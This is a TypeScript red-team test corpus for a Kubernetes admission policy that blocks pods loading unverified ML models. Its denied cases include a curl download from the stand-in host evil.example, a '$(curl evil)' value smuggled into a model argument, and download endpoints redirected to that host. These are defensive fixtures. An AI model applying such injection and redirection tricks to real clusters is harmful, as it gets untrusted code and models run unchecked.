// The red-team corpus: hostile workloads across every class of docs/policy.md's fail-closed model, each
// with the namespace (so the policy) it runs in and what its refusal must say, plus the controls that
// must be admitted. Written as an attacker would: every case is a way to get an unchecked model loaded.
type Obj = Record<string, unknown>;

export interface Case {
  name: string;
  class: string;
  object: Obj;
  /** Admitted (controls) or refused; refusals must match `why` in some violation. */
  expect: 'allow' | 'deny';
  why?: RegExp;
  /** For UPDATEs and subresources (ephemeral containers). */
  request?: { operation: 'UPDATE'; subResource?: string; oldObject: Obj };
  /**
   * Judge the object as written, without the mutating webhook's patch: what reaches the validating
   * webhook when the mutating one is bypassed (removed, or failing open).
   */
  bypassMutation?: true;
}

const D = (c: string) => `sha256:${c.repeat(64)}`;
export const img = (repo: string, c = 'a') => `${repo}@${D(c)}`;
const VLLM = img('vllm/vllm-openai');
const TGI = img('ghcr.io/huggingface/text-generation-inference');
const LLAMA = img('ghcr.io/ggml-org/llama.cpp');
const TRITON = img('nvcr.io/nvidia/tritonserver');
const SI = img('kserve/storage-initializer');
const ISTIO = img('istio/proxyv2');
const WEB = img('registry.example.com/web/storefront');
const MODEL_IMG = img('registry.example.com/models/llama', 'b');
const PINNED_HF = `example-org/llama:${'c'.repeat(40)}`;
const COMMIT = 'c'.repeat(40);
const SIGNED = 'sha256:92745110b1ab4368471cbe31664e10174e954b113a3df333db860317b2c6dec4';

export function pod(ns: string, spec: Obj, meta: Obj = {}): Obj {
  return { apiVersion: 'v1', kind: 'Pod', metadata: { name: 'p', namespace: ns, ...meta }, spec };
}
function deploy(ns: string, spec: Obj, meta: Obj = {}, templateMeta: Obj = {}): Obj {
  return {
    apiVersion: 'apps/v1',
    kind: 'Deployment',
    metadata: { name: 'd', namespace: ns, ...meta },
    spec: {
      selector: { matchLabels: { app: 'd' } },
      template: { metadata: { labels: { app: 'd' }, ...templateMeta }, spec },
    },
  };
}
/** A pod spec whose model is an image volume pinned by digest, mounted read-only at /models/m. */
function withModel(containers: Obj[], extra: Obj = {}): Obj {
  return {
    containers,
    volumes: [{ name: 'm', image: { reference: MODEL_IMG } }],
    ...extra,
  };
}
const ro = [{ name: 'm', mountPath: '/models/m', readOnly: true }];
const server = (extra: Obj = {}): Obj => ({
  name: 'server',
  image: VLLM,
  args: ['--model', '/models/m'],
  volumeMounts: ro,
  ...extra,
});
const vllmCmd = (...args: string[]): Obj => ({
  name: 'server',
  image: VLLM,
  command: ['vllm', 'serve', ...args],
});

const deny = (klass: string, name: string, object: Obj, why: RegExp, request?: Case['request']): Case => ({
  name,
  class: klass,
  object,
  expect: 'deny',
  why,
  ...(request ? { request } : {}),
});
const allow = (name: string, object: Obj): Case => ({ name, class: 'control', object, expect: 'allow' });

const UNKNOWN = /container ".*" .*runs .*so what it loads is unknown/;
const NOT_ALLOWED = /not from an allowed source/;
const NOT_THE_VERIFIER = /named like modelgate's verifier but is not the verifier/;

export const CASES: Case[] = [
  // ── Controls: what a real platform runs, admitted under the same policies ─────────────────────────
  allow('vLLM serving a digest-pinned image volume', pod('prod', withModel([server()]))),
  allow(
    'vLLM serving a pinned model of the vetted hub org',
    pod('prod', { containers: [vllmCmd(PINNED_HF.split(':')[0]!, '--revision', COMMIT)] }),
  ),
  allow(
    'TGI with a literal, pinned MODEL_ID',
    deploy('prod', {
      containers: [
        {
          name: 'tgi',
          image: TGI,
          env: [
            { name: 'MODEL_ID', value: 'example-org/llama' },
            { name: 'REVISION', value: COMMIT },
            { name: 'HF_TOKEN', valueFrom: { secretKeyRef: { name: 'hf', key: 'token' } } },
          ],
        },
      ],
    }),
  ),
  allow(
    'an approved mesh sidecar beside the server',
    pod('prod', withModel([server(), { name: 'istio-proxy', image: ISTIO, args: ['proxy', 'sidecar'] }])),
  ),
  allow(
    'an approved native sidecar (mesh) that mounts nothing',
    pod(
      'prod',
      withModel([server()], {
        initContainers: [{ name: 'istio-proxy', image: ISTIO, restartPolicy: 'Always' }],
      }),
    ),
  ),
  allow(
    'a web frontend whose image the policy approves',
    deploy('prod', { containers: [{ name: 'web', image: WEB }] }),
  ),
  allow(
    'a web frontend approved by digest',
    deploy('web', { containers: [{ name: 'nginx', image: `nginx@${D('f')}` }] }),
  ),
  allow(
    'KServe storage initializer downloading into a volume the verifier then checks',
    pod(
      'prod',
      {
        initContainers: [
          {
            name: 'storage-initializer',
            image: SI,
            args: ['s3://models-prod/llama', '/mnt/models'],
            volumeMounts: [{ name: 'kserve-provision-location', mountPath: '/mnt/models' }],
          },
        ],
        containers: [
          {
            name: 'kserve-container',
            image: img('kserve/huggingfaceserver'),
            args: ['--model_dir=/mnt/models', '--model_name=llama'],
            volumeMounts: [{ name: 'kserve-provision-location', mountPath: '/mnt/models', readOnly: true }],
          },
        ],
        volumes: [{ name: 'kserve-provision-location', emptyDir: {} }],
      },
      {
        annotations: {
          'modelgate.io/models': JSON.stringify([
            { name: 'llama', volume: 'kserve-provision-location', digest: SIGNED },
          ]),
        },
      },
    ),
  ),
  allow(
    'llama.cpp serving a GGUF from a pinned image volume',
    pod(
      'prod',
      withModel([
        {
          name: 'llama',
          image: LLAMA,
          args: ['-m', '/models/m/model.gguf', '--port', '8080'],
          volumeMounts: ro,
        },
      ]),
    ),
  ),
  allow(
    'Triton with its model repository on a pinned image volume',
    pod(
      'prod',
      withModel([
        {
          name: 'triton',
          image: TRITON,
          args: ['tritonserver', '--model-repository=/models/m'],
          volumeMounts: ro,
        },
      ]),
    ),
  ),
  allow(
    'a simple sh -c line that runs vLLM on the verified volume',
    pod(
      'prod',
      withModel([
        {
          name: 'server',
          image: VLLM,
          command: ['sh', '-c', 'exec vllm serve /models/m --port 8000'],
          volumeMounts: ro,
        },
      ]),
    ),
  ),
  allow(
    'a signed model on a PVC, its bundle in a ConfigMap, checked by the verifier',
    pod(
      'signed',
      {
        containers: [
          {
            name: 'server',
            image: VLLM,
            args: ['--model', '/models/m'],
            volumeMounts: [{ name: 'w', mountPath: '/models/m', readOnly: true }],
          },
        ],
        volumes: [{ name: 'w', persistentVolumeClaim: { claimName: 'models-llama', readOnly: true } }],
      },
      {
        annotations: {
          'modelgate.io/models': JSON.stringify([
            {
              name: 'llama',
              volume: 'w',
              digest: SIGNED,
              signature: { configMapRef: { name: 'model-sig', key: 'model.sig' } },
            },
          ]),
        },
      },
    ),
  ),
  allow(
    'a high-sensitivity model on SEV-SNP',
    deploy('secure', {
      runtimeClassName: 'kata-qemu-snp',
      nodeSelector: { 'feature.node.kubernetes.io/cpu-security.sev.snp.enabled': 'true' },
      containers: [server()],
      volumes: [{ name: 'm', image: { reference: MODEL_IMG } }],
    }),
  ),
  allow(
    'a KServe modelcar (the model image linked into the server)',
    pod('prod', {
      shareProcessNamespace: true,
      containers: [
        {
          name: 'kserve-container',
          image: img('kserve/huggingfaceserver'),
          args: ['--model_dir=/mnt/models'],
          volumeMounts: [{ name: 'kserve-provision-location', mountPath: '/mnt', readOnly: true }],
        },
        {
          name: 'modelcar',
          image: MODEL_IMG,
          args: ['sh', '-c', 'ln -sf /proc/$$$$/root/models /mnt/models && sleep infinity'],
          volumeMounts: [{ name: 'kserve-provision-location', mountPath: '/mnt' }],
        },
      ],
      volumes: [{ name: 'kserve-provision-location', emptyDir: {} }],
    }),
  ),

  // ── Unknown servers and scripts: a container modelgate cannot read is refused, whatever its name ──
  deny(
    'unknown',
    'a shell pipeline that fetches a model',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: VLLM,
          command: ['sh', '-c', 'curl -L https://evil.example/m.bin -o /tmp/m && vllm serve /tmp/m'],
        },
      ],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'bash -lc script',
    pod('prod', {
      containers: [{ name: 'server', image: VLLM, command: ['/bin/bash', '-lc', 'vllm serve $MODEL'] }],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'a script file',
    pod('prod', { containers: [{ name: 'server', image: VLLM, command: ['sh', '/scripts/start.sh'] }] }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'busybox sh -c with a variable',
    pod('prod', {
      containers: [{ name: 'server', image: 'busybox', command: ['busybox', 'sh', '-c', 'wget $URL'] }],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'python -c inline code',
    pod('prod', {
      containers: [
        { name: 'server', image: VLLM, command: ['python3', '-c', 'import vllm; vllm.LLM("evil-org/x")'] },
      ],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'a custom Python server',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('registry.example.com/ml/app'),
          command: ['python', 'serve.py', '--weights', 'evil-org/x'],
        },
      ],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'uvicorn app',
    pod('prod', {
      containers: [
        { name: 'server', image: img('registry.example.com/ml/app'), command: ['uvicorn', 'app:app'] },
      ],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'an unknown image with only args',
    pod('prod', {
      containers: [
        { name: 'server', image: img('registry.example.com/ml/server'), args: ['--model', 'evil-org/x'] },
      ],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'a vLLM mirror (entrypoint not trusted)',
    pod('prod', {
      containers: [
        {
          name: 'server',
          image: img('mirror.example.com/vllm/vllm-openai'),
          args: ['--model', 'example-org/llama'],
        },
      ],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'a container named storage-initializer running anything',
    pod(
      'prod',
      withModel([server()], {
        initContainers: [
          {
            name: 'storage-initializer',
            image: img('registry.example.com/tools/fetch'),
            args: ['s3://evil/x', '/models/m'],
          },
        ],
      }),
    ),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'a container named queue-proxy with another image',
    pod(
      'prod',
      withModel([server(), { name: 'queue-proxy', image: img('registry.example.com/evil/queue') }]),
    ),
    UNKNOWN,
  ),
  {
    ...deny(
      'unknown',
      'a container named modelgate-verifier with another image (mutation bypassed)',
      pod(
        'prod',
        withModel([server()], {
          initContainers: [
            {
              name: 'modelgate-verifier',
              image: img('evil.example.com/verifier'),
              command: ['modelgate'],
              args: ['verify'],
            },
          ],
        }),
      ),
      NOT_THE_VERIFIER,
    ),
    bypassMutation: true,
  },
  {
    ...deny(
      'unknown',
      'a container named modelgate-verifier running something else (mutation bypassed)',
      pod(
        'prod',
        withModel([server()], {
          initContainers: [
            {
              name: 'modelgate-verifier',
              image: img('registry.example.com/modelgate/verifier'),
              command: ['sh', '-c', 'true'],
            },
          ],
        }),
      ),
      NOT_THE_VERIFIER,
    ),
    bypassMutation: true,
  },
  {
    ...deny(
      'unknown',
      'no verifier at all (mutation bypassed)',
      pod('prod', withModel([server()])),
      /requires the runtime verifier init container "modelgate-verifier", and the pod does not have it/,
    ),
    bypassMutation: true,
  },
  deny(
    'unknown',
    'java -jar server',
    deploy('prod', {
      containers: [
        { name: 's', image: img('registry.example.com/ml/java'), command: ['java', '-jar', '/app.jar'] },
      ],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'an unapproved web frontend in a selected namespace',
    deploy('prod', { containers: [{ name: 'web', image: 'nginx:1.27' }] }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'an unapproved sidecar beside an approved server',
    pod('prod', withModel([server(), { name: 'logs', image: 'fluent/fluent-bit:3.0' }])),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'torchrun launcher',
    pod('prod', {
      containers: [{ name: 's', image: VLLM, command: ['torchrun', '--nproc_per_node=2', 'serve.py'] }],
    }),
    UNKNOWN,
  ),
  deny(
    'unknown',
    'python script via env launcher',
    pod('prod', {
      containers: [{ name: 's', image: VLLM, command: ['/usr/bin/env', 'python3', '/app/run.py'] }],
    }),
    UNKNOWN,
  ),

  // ── Command-line grammar: every candidate the server could take must pass ───────────────────────
  deny(
    'grammar',
    'vLLM positional model after options',
    pod('prod', { containers: [vllmCmd('--port', '8000', 'evil-org/llama')] }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM positional model after an unknown flag',
    pod('prod', { containers: [vllmCmd('--some-new-flag', 'evil-org/llama')] }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'python -m vllm.entrypoints.openai.api_server',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: VLLM,
          command: ['python3', '-m', 'vllm.entrypoints.openai.api_server', '--model', 'evil-org/x'],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vllm cli main serve',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: VLLM,
          command: ['python3', '-m', 'vllm.entrypoints.cli.main', 'serve', 'evil-org/x'],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM --model repeated (the last wins)',
    pod('prod', {
      containers: [
        { name: 's', image: VLLM, args: ['--model', '/models/m', '--model', 'evil-org/x'], volumeMounts: ro },
      ],
      volumes: [{ name: 'm', image: { reference: MODEL_IMG } }],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM --model= form',
    pod('prod', { containers: [{ name: 's', image: VLLM, args: ['--model=evil-org/x'] }] }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM abbreviation --mod',
    pod('prod', { containers: [{ name: 's', image: VLLM, args: ['--mod', 'evil-org/x'] }] }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM abbreviation --tok for the tokenizer',
    pod('prod', withModel([server({ args: ['--model', '/models/m', '--tok', 'evil-org/tok'] })])),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM --tokenizer from another org',
    pod('prod', withModel([server({ args: ['--model', '/models/m', '--tokenizer', 'evil-org/tok'] })])),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM --lora-modules name=path',
    pod(
      'prod',
      withModel([
        server({ args: ['--model', '/models/m', '--enable-lora', '--lora-modules', 'a=evil-org/adapter'] }),
      ]),
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM --lora-modules JSON',
    pod(
      'prod',
      withModel([
        server({
          args: ['--model', '/models/m', '--lora-modules', '{"name":"a","path":"evil-org/adapter"}'],
        }),
      ]),
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM --lora-modules several values',
    pod(
      'prod',
      withModel([
        server({ args: ['--model', '/models/m', '--lora-modules', 'a=/models/m', 'b=evil-org/adapter'] }),
      ]),
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM --speculative-config draft model',
    pod(
      'prod',
      withModel([
        server({
          args: [
            '--model',
            '/models/m',
            '--speculative-config',
            '{"model":"evil-org/draft","num_speculative_tokens":5}',
          ],
        }),
      ]),
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'vLLM unparsable --speculative-config',
    pod(
      'prod',
      withModel([server({ args: ['--model', '/models/m', '--speculative-config', '{model: evil}'] })]),
    ),
    /not JSON modelgate can read/,
  ),
  deny(
    'grammar',
    'vLLM with no model loads its default',
    pod('prod', { containers: [{ name: 's', image: VLLM }] }),
    /facebook\/opt-125m/,
  ),
  deny(
    'grammar',
    'vLLM unpinned revision',
    pod('prod', { containers: [vllmCmd('example-org/llama', '--revision', 'main')] }),
    /branch or tag that can move/,
  ),
  deny(
    'grammar',
    'vLLM two revisions, one unpinned',
    pod('prod', { containers: [vllmCmd('example-org/llama', '--revision', COMMIT, '--revision', 'main')] }),
    /branch or tag that can move/,
  ),
  deny(
    'grammar',
    'TGI --model-id overriding a pinned MODEL_ID',
    pod('prod', {
      containers: [
        {
          name: 't',
          image: TGI,
          args: ['--model-id', 'evil-org/x'],
          env: [{ name: 'MODEL_ID', value: 'example-org/llama' }],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'TGI --lora-adapters list',
    pod('prod', {
      containers: [
        {
          name: 't',
          image: TGI,
          args: [
            '--model-id',
            PINNED_HF.split(':')[0]!,
            '--revision',
            COMMIT,
            '--lora-adapters',
            'example-org/a,evil-org/b',
          ],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'TGI with no model loads its default',
    pod('prod', { containers: [{ name: 't', image: TGI }] }),
    /bigscience\/bloom-560m/,
  ),
  deny(
    'grammar',
    'llama.cpp -hf repository',
    pod('prod', { containers: [{ name: 'l', image: LLAMA, args: ['-hf', 'evil-org/model-GGUF:Q4_K_M'] }] }),
    /Q4_K_M|not from an allowed source|not a Hugging Face reference/,
  ),
  deny(
    'grammar',
    'llama.cpp --model-url',
    pod('prod', {
      containers: [{ name: 'l', image: LLAMA, args: ['--model-url', 'https://evil.example/m.gguf'] }],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'llama.cpp --lora on an unknown volume',
    pod(
      'prod',
      withModel(
        [
          {
            name: 'l',
            image: LLAMA,
            args: ['-m', '/models/m/x.gguf', '--lora', '/adapters/a.gguf'],
            volumeMounts: [...ro, { name: 'a', mountPath: '/adapters' }],
          },
        ],
        {
          volumes: [
            { name: 'm', image: { reference: MODEL_IMG } },
            { name: 'a', emptyDir: {} },
          ],
        },
      ),
    ),
    /whose content modelgate cannot see/,
  ),
  deny(
    'grammar',
    'SGLang --model-path',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: img('lmsysorg/sglang'),
          command: ['python3', '-m', 'sglang.launch_server', '--model-path', 'evil-org/x'],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'SGLang --lora-paths',
    pod(
      'prod',
      withModel([
        {
          name: 's',
          image: img('lmsysorg/sglang'),
          command: [
            'python3',
            '-m',
            'sglang.launch_server',
            '--model-path',
            '/models/m',
            '--lora-paths',
            'a=evil-org/a',
          ],
          volumeMounts: ro,
        },
      ]),
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'Triton repeated --model-repository',
    pod(
      'prod',
      withModel([
        {
          name: 't',
          image: TRITON,
          command: ['tritonserver', '--model-repository=/models/m', '--model-repository=s3://evil/repo'],
          volumeMounts: ro,
        },
      ]),
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'Triton abbreviated --model-repo',
    pod('prod', {
      containers: [{ name: 't', image: TRITON, command: ['tritonserver', '--model-repo=gs://evil/repo'] }],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'KServe huggingfaceserver --model_id',
    pod('prod', {
      containers: [
        {
          name: 'k',
          image: img('kserve/huggingfaceserver'),
          args: ['--model_name=x', '--model_id=evil-org/x'],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'KServe --model-dir spelled with dashes',
    pod('prod', {
      containers: [{ name: 'k', image: img('kserve/sklearnserver'), args: ['--model-dir', 'gs://evil/m'] }],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'MLServer start on an unknown volume',
    pod('prod', {
      containers: [
        {
          name: 'm',
          image: img('seldonio/mlserver'),
          command: ['mlserver', 'start', '/mnt/models'],
          volumeMounts: [{ name: 'x', mountPath: '/mnt/models' }],
        },
      ],
      volumes: [{ name: 'x', hostPath: { path: '/srv/models' } }],
    }),
    /whose content modelgate cannot see/,
  ),
  deny(
    'grammar',
    'NVIDIA NIM with an unpinned image',
    pod('prod', { containers: [{ name: 'nim', image: 'nvcr.io/nim/meta/llama-3.1-8b-instruct:latest' }] }),
    /referenced by tag "latest"/,
  ),
  deny(
    'grammar',
    'NVIDIA NIM overriding the model by env',
    pod('prod', {
      containers: [
        {
          name: 'nim',
          image: img('nvcr.io/nim/meta/llama-3.1-8b-instruct'),
          env: [{ name: 'NIM_MODEL_NAME', value: 'hf://evil-org/x' }],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'TorchServe --models URL',
    pod('prod', {
      containers: [
        {
          name: 't',
          image: img('pytorch/torchserve'),
          command: ['torchserve', '--start', '--models', 'x=https://evil.example/x.mar'],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'TF Serving --model_base_path',
    pod('prod', {
      containers: [{ name: 't', image: img('tensorflow/serving'), args: ['--model_base_path=gs://evil/m'] }],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'huggingface-cli download init container',
    pod(
      'prod',
      withModel([server()], {
        initContainers: [
          {
            name: 'dl',
            image: VLLM,
            command: ['huggingface-cli', 'download', 'evil-org/x', '--local-dir', '/models/dl'],
          },
        ],
      }),
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'aws s3 cp init container',
    pod(
      'prod',
      withModel([server()], {
        initContainers: [
          {
            name: 'dl',
            image: img('amazon/aws-cli'),
            command: ['aws', 's3', 'cp', '--recursive', 's3://evil/m', '/dl'],
          },
        ],
      }),
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'storage initializer from a disallowed bucket',
    pod(
      'prod',
      {
        initContainers: [
          {
            name: 'storage-initializer',
            image: SI,
            args: ['s3://evil-bucket/m', '/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }],
          },
        ],
        containers: [
          {
            name: 'kserve-container',
            image: img('kserve/sklearnserver'),
            args: ['--model_dir=/mnt/models'],
            volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
          },
        ],
        volumes: [{ name: 'k', emptyDir: {} }],
      },
      {
        annotations: { 'modelgate.io/models': JSON.stringify([{ name: 'm', volume: 'k', digest: SIGNED }]) },
      },
    ),
    NOT_ALLOWED,
  ),
  deny(
    'grammar',
    'unknown model-ish flag on a known server',
    pod('prod', withModel([server({ args: ['--model', '/models/m', '--adapter-path', '/x'] })])),
    /not known to modelgate, and its name suggests it names a model/,
  ),
  deny(
    'grammar',
    'a model value with shell characters',
    pod('prod', { containers: [vllmCmd('$(curl evil)')] }),
    /not a model reference modelgate can read|cannot read/,
  ),

  // ── Environment and configuration modelgate cannot read ───────────────────────────────────────────
  deny(
    'env',
    'TGI MODEL_ID from envFrom',
    pod('prod', { containers: [{ name: 't', image: TGI, envFrom: [{ configMapRef: { name: 'cfg' } }] }] }),
    /MODEL_ID names the model and comes from envFrom ConfigMap cfg/,
  ),
  deny(
    'env',
    'TGI MODEL_ID from a ConfigMap key',
    pod('prod', {
      containers: [
        {
          name: 't',
          image: TGI,
          env: [{ name: 'MODEL_ID', valueFrom: { configMapKeyRef: { name: 'cfg', key: 'model' } } }],
        },
      ],
    }),
    /MODEL_ID names the model/,
  ),
  deny(
    'env',
    'TGI MODEL_ID from a Secret key',
    pod('prod', {
      containers: [
        {
          name: 't',
          image: TGI,
          env: [{ name: 'MODEL_ID', valueFrom: { secretKeyRef: { name: 's', key: 'model' } } }],
        },
      ],
    }),
    /MODEL_ID names the model/,
  ),
  deny(
    'env',
    'vLLM --model=$(MODEL) from a ConfigMap',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: VLLM,
          args: ['--model=$(MODEL)'],
          env: [{ name: 'MODEL', valueFrom: { configMapKeyRef: { name: 'c', key: 'm' } } }],
        },
      ],
    }),
    /\$\(MODEL\) comes from ConfigMap c/,
  ),
  deny(
    'env',
    'vLLM $(MODEL) set by envFrom',
    pod('prod', {
      containers: [
        { name: 's', image: VLLM, args: ['--model', '$(MODEL)'], envFrom: [{ secretRef: { name: 's' } }] },
      ],
    }),
    /\$\(MODEL\) comes from envFrom Secret s/,
  ),
  deny(
    'env',
    '$$(VAR) is a literal, not the variable',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: VLLM,
          args: ['--model', '$$(MODEL)'],
          env: [{ name: 'MODEL', value: 'example-org/llama' }],
        },
      ],
    }),
    /not a model reference modelgate can read/,
  ),
  deny(
    'env',
    'fieldRef to an annotation naming the model',
    pod(
      'prod',
      {
        containers: [
          {
            name: 't',
            image: TGI,
            env: [{ name: 'MODEL_ID', valueFrom: { fieldRef: { fieldPath: "metadata.annotations['m']" } } }],
          },
        ],
      },
      { annotations: { m: 'evil-org/x' } },
    ),
    NOT_ALLOWED,
  ),
  deny(
    'env',
    'llama.cpp LLAMA_ARG_MODEL_URL',
    pod('prod', {
      containers: [
        {
          name: 'l',
          image: LLAMA,
          env: [{ name: 'LLAMA_ARG_MODEL_URL', value: 'https://evil.example/m.gguf' }],
        },
      ],
    }),
    NOT_ALLOWED,
  ),
  deny(
    'env',
    'llama.cpp LLAMA_ARG_HF_REPO from a ConfigMap',
    pod('prod', {
      containers: [
        {
          name: 'l',
          image: LLAMA,
          env: [{ name: 'LLAMA_ARG_HF_REPO', valueFrom: { configMapKeyRef: { name: 'c', key: 'r' } } }],
        },
      ],
    }),
    /LLAMA_ARG_HF_REPO names the model/,
  ),
  deny(
    'env',
    'STORAGE_URI from a ConfigMap',
    pod(
      'prod',
      withModel([
        server({ env: [{ name: 'STORAGE_URI', valueFrom: { configMapKeyRef: { name: 'c', key: 'u' } } }] }),
      ]),
    ),
    /STORAGE_URI names the model/,
  ),
  deny(
    'env',
    'vLLM --config file',
    pod('prod', withModel([server({ args: ['--model', '/models/m', '--config', '/etc/vllm/config.yaml'] })])),
    /reads options from the file/,
  ),
  deny(
    'env',
    'vLLM --model-loader-extra-config',
    pod(
      'prod',
      withModel([
        server({
          args: ['--model', '/models/m', '--model-loader-extra-config', '{"tensorizer_uri":"s3://evil/x"}'],
        }),
      ]),
    ),
    /reads options from/,
  ),
  deny(
    'env',
    'SGLang --config',
    pod('prod', {
      containers: [
        {
          name: 's',
          image: img('lmsysorg/sglang'),
          command: ['python3', '-m', 'sglang.launch_server', '--config', '/c.yaml'],
        },
      ],
    }),
    /reads options from the file/,
  ),
  deny(
    'env',
    'TorchServe --ts-config',
    pod('prod', {
      containers: [
        {
          name: 't',
          image: img('pytorch/torchserve'),
          command: ['torchserve', '--start', '--ts-config', '/c/config.properties'],
        },
      ],
    }),
    /reads options from the file/,
  ),
  deny(
    'env',
    'TF Serving --model_config_file',
    pod('prod', {
      containers: [
        { name: 't', image: img('tensorflow/serving'), args: ['--model_config_file=/c/models.config'] },
      ],
    }),
    /reads options from the file/,
  ),

  // ── Download redirection and caches (violations while the bytes are not bound by evidence) ────────
  deny(
    'redirect',
    'HF_ENDPOINT to another hub',
    pod('prod', {
      containers: [
        {
          ...vllmCmd('example-org/llama', '--revision', COMMIT),
          env: [{ name: 'HF_ENDPOINT', value: 'https://evil.example' }],
        },
      ],
    }),
    /HF_ENDPOINT redirects where models are downloaded/,
  ),
  deny(
    'redirect',
    'HF_ENDPOINT from a ConfigMap',
    pod('prod', {
      containers: [
        {
          ...vllmCmd('example-org/llama', '--revision', COMMIT),
          env: [{ name: 'HF_ENDPOINT', valueFrom: { configMapKeyRef: { name: 'c', key: 'e' } } }],
        },
      ],
    }),
    /HF_ENDPOINT redirects/,
  ),
  deny(
    'redirect',
    'envFrom ConfigMap that may set HF_ENDPOINT',
    pod('prod', {
      containers: [
        { ...vllmCmd('example-org/llama', '--revision', COMMIT), envFrom: [{ configMapRef: { name: 'c' } }] },
      ],
    }),
    /may set variables that redirect downloads|HF_ENDPOINT redirects|PATH comes from envFrom/,
  ),
  deny(
    'redirect',
    'VLLM_USE_MODELSCOPE',
    pod('prod', {
      containers: [
        {
          ...vllmCmd('example-org/llama', '--revision', COMMIT),
          env: [{ name: 'VLLM_USE_MODELSCOPE', value: 'True' }],
        },
      ],
    }),
    /VLLM_USE_MODELSCOPE redirects/,
  ),
  deny(
    'redirect',
    'HF cache on a shared PVC',
    pod('prod', {
      containers: [
        {
          ...vllmCmd('example-org/llama', '--revision', COMMIT),
          env: [{ name: 'HF_HOME', value: '/cache' }],
          volumeMounts: [{ name: 'c', mountPath: '/cache' }],
        },
      ],
      volumes: [{ name: 'c', persistentVolumeClaim: { claimName: 'hf-cache' } }],
    }),
    /download cache \/cache\/hub is on volume "c" \(persistentVolumeClaim/,
  ),
  deny(
    'redirect',
    'default HF cache path on a PVC',
    pod('prod', {
      containers: [
        {
          ...vllmCmd('example-org/llama', '--revision', COMMIT),
          volumeMounts: [{ name: 'c', mountPath: '/root/.cache/huggingface' }],
        },
      ],
      volumes: [{ name: 'c', persistentVolumeClaim: { claimName: 'hf-cache' } }],
    }),
    /the download cache \/root\/\.cache\/huggingface\/hub is on volume "c"/,
  ),
  deny(
    'redirect',
    'vLLM --download-dir on a hostPath',
    pod('prod', {
      containers: [
        {
          ...vllmCmd('example-org/llama', '--revision', COMMIT, '--download-dir', '/dl'),
          volumeMounts: [{ name: 'c', mountPath: '/dl' }],
        },
      ],
      volumes: [{ name: 'c', hostPath: { path: '/srv/dl' } }],
    }),
    /download cache \/dl is on volume/,
  ),
  deny(
    'redirect',
    'S3 endpoint for a downloader without the verifier after it',
    pod('dual', {
      initContainers: [
        {
          name: 'storage-initializer',
          image: SI,
          args: ['s3://models-prod/m', '/mnt/models'],
          env: [{ name: 'AWS_ENDPOINT_URL', value: 'https://evil.example' }],
          volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }],
        },
      ],
      containers: [
        {
          name: 'kserve-container',
          image: img('kserve/sklearnserver'),
          args: ['--model_dir=/mnt/models'],
          volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }],
        },
      ],
      volumes: [{ name: 'k', emptyDir: {} }],
    }),
    /AWS_ENDPOINT_URL redirects/,
  ),

  deny(
    'redirect',
    'a downloader whose output nothing verifies',
    pod('web', {
      initContainers: [
        {
          name: 'fetch',
          image: img('amazon/aws-cli'),
          command: ['aws', 's3', 'cp', 's3://models-prod/m', '/mnt/models/m'],
          volumeMounts: [{ name: 'k', mountPath: '/mnt/models' }],
        },
      ],
      containers: [
        { name: 'web', image: WEB, volumeMounts: [{ name: 'k', mountPath: '/mnt/models', readOnly: true }] },
      ],
      volumes: [{ name: 'k', emptyDir: {} }],
    }),
    /downloads a model .* neither does policy web approve its image nor does the runtime verifier check what it wrote/,
  ),
  deny(
